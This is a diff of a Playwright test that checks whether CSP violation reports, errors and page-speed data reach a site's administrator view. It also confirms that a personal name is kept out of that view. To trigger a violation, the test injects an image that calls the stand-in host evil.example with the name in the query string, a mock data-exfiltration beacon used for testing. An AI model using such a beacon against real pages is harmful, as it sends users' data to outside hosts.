@@ -1,6 +1,6 @@
 /** What real browsers tell of real visits, as an administrator reads it. */
 
-import type { Page } from "@playwright/test";
+import type { Browser, Page } from "@playwright/test";
 import { expect, LANGUAGES, SITES, test } from "./journey.ts";
 import { press } from "./press.ts";
 import { comeIn } from "./staff.ts";
@@ -10,27 +10,28 @@ test.describe.configure({ mode: "default" });
 
 /** How long a page that was just loaded has for what it shows, in milliseconds. */
 const SHOWN_MS = 1_000;
+/** Until a browser has reported even what it kept, in milliseconds: it does so once a minute. */
+const REPORTED_MS = 90_000;
 
 /** The part of /admin/visits under a heading. */
 const partOf = (page: Page, id: "speed" | "reports") =>
   page.locator("section", { has: page.locator(`#${id}`) });
 
-/** Brings a browser to report a violation by itself, which no page sees, and leaves the page. */
-async function violate(visitor: Page) {
+/** Goes to a page in a context of its own and brings the browser to report a violation, which no page sees. */
+async function violate(browser: Browser): Promise<void> {
+  const visitor = await (await browser.newContext()).newPage();
   const browserOwn = await visitor.context().newCDPSession(visitor);
   await browserOwn.send("Network.enableReportingApi", { enable: true });
   const noted = new Promise((resolve) => {
     browserOwn.once("Network.reportingApiReportAdded", resolve);
   });
+  await visitor.goto(`${SITES.el}/team`);
   await visitor.evaluate(() => {
     const image = document.createElement("img");
     image.src = "https://evil.example/pixel.png?who=maria";
     document.body.append(image);
   });
   await noted;
-  await browserOwn.detach();
-  // Going on is when reports are sent, and when a visit is told of.
-  await visitor.goto(`${SITES.el}/terms`);
 }
 
 test("an error, a violation and the quickness of a visit arrive where administrators see them", async ({
@@ -38,7 +39,7 @@ test("an error, a violation and the quickness of a visit arrive where administra
   playwright,
   launchOptions,
 }) => {
-  // A browser of its own: one that had hundreds of journeys behind it did not deliver its reports, in whole runs alone.
+  // A browser of its own, whose contexts have no headers of a journey's: what it reports by itself has none.
   const own = await playwright.chromium.launch(launchOptions);
   const visitor = await own.newPage();
   // Every visit is measured, not one in four.
@@ -59,15 +60,16 @@ test("an error, a violation and the quickness of a visit arrive where administra
   await comeIn(page, SITES.en, "administrator", "/admin/visits");
   const reports = partOf(page, "reports");
   const row = (text: string) => reports.getByRole("row").filter({ hasText: text });
+  // Going on is when a visit is told of.
+  await visitor.goto(`${SITES.el}/terms`);
   await expect(async () => {
-    // Browsers report when they see fit, once.
-    await visitor.goto(`${SITES.el}/team`);
-    await violate(visitor);
+    // Chromium sends the first report of a context at once, and keeps all others for a minute.
+    await violate(own);
     await page.reload();
     await expect(row("trouble")).toContainText("/team");
     await expect(row("evil.example")).toContainText("/team", { timeout: SHOWN_MS });
     await expect(partOf(page, "speed").getByRole("row")).not.toHaveCount(0, { timeout: 100 });
-  }).toPass({ timeout: 60_000 });
+  }).toPass({ timeout: REPORTED_MS, intervals: [1_000, 5_000, 10_000] });
   await own.close();
   await expect(reports).not.toContainText("maria");
   // Heads, all pages, and the kind of page that was opened.
